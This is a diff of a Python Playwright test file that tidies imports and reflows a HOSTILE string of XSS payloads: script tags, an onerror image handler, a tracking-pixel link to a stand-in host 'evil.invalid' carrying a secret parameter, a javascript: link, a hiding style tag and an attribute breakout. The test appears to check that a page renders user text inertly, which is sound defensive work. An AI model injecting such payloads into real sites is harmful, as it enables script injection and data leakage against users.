@@ -1,7 +1,5 @@
 """Text that would be more than text, if the page let it."""
 
-from typing import TYPE_CHECKING
-
 from playwright.sync_api import Page, expect
 
 from tests.harness import wire
@@ -10,15 +8,11 @@ from tests.harness.people import Person
 from tests.harness.site import Site
 from tests.harness.upstream import Upstream
 
-if TYPE_CHECKING:
-    pass
-
-
 HOSTILE = (
     '<script>window.hacked = 1</script> <img src="http://evil.invalid/a.png" onerror="window.hacked'
     ' = 2">\n\n![pixel](http://evil.invalid/b.png?secret=1) [click](javascript:window.hacked=3)'
-    " [ok](https://ok.invalid/)\n\n<style>body{display:none}</style>\n\n```html\n<script>window.hacked"
-    ' = 4</script>\n```\n\n"onmouseover="window.hacked=5'
+    " [ok](https://ok.invalid/)\n\n<style>body{display:none}</style>\n\n```html\n"
+    '<script>window.hacked = 4</script>\n```\n\n"onmouseover="window.hacked=5'
 )
 
 
